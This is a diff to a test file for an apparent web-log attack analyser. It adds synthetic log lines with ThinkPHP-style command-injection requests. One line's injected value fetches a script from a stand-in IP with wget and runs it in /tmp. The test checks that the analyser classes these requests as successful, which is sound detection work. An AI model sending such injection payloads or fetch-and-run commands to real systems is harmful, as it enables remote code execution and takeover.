@@ -58,6 +58,24 @@ test("a dynamic page's usual size is no success; a command's few bytes are; one 
       log += line(i++, "203.0.113.11", `GET ${THINK}`, 200, 29, "curl/7.68.0");
       // A framework's front controller in a folder no visitor asked for renders the same home page.
       log += line(i++, "203.0.113.12", `GET /public${THINK}`, 200, 30111, "Go-http-client/1.1");
+      // Two different commands whose few bytes of output happen to be the same size: not "the page's
+      // usual answer to any payload" (that size is nowhere near the home page's).
+      log += line(
+        i++,
+        "203.0.113.13",
+        `GET ${THINK.replace("vars[1][]=id", "vars[1][]=uname")}`,
+        200,
+        31,
+        "curl/7.68.0",
+      );
+      log += line(
+        i++,
+        "203.0.113.14",
+        `GET ${THINK.replace("vars[1][]=id", "vars[1][]=wget+http://198.51.100.9/setup.sh+-O+/tmp/s;sh+/tmp/s")}`,
+        200,
+        31,
+        "python-requests/2.25.1",
+      );
       // PHPUnit's payload is the POST body: three bots, one URL, the same 32-byte output.
       log += line(i++, "203.0.113.20", `POST ${PHPUNIT}`, 200, 32, "Mozilla/5.0 zgrab/0.x");
       log += line(i++, "203.0.113.21", `POST ${PHPUNIT}`, 200, 32, "python-requests/2.31.0");
@@ -81,6 +99,8 @@ test("a dynamic page's usual size is no success; a command's few bytes are; one 
     ["unknown", "page-sized"],
     "/public/index.php answered with the home page's usual size",
   );
+  for (const ip of ["203.0.113.13", "203.0.113.14"])
+    assert.equal(of(ip)?.outcome, "succeeded", `${ip}: ${of(ip)?.attack} ${of(ip)?.why}`);
   for (const ip of ["203.0.113.20", "203.0.113.21", "203.0.113.22"])
     assert.equal(of(ip)?.outcome, "succeeded", `PHPUnit from ${ip}: ${of(ip)?.why}`);
 });
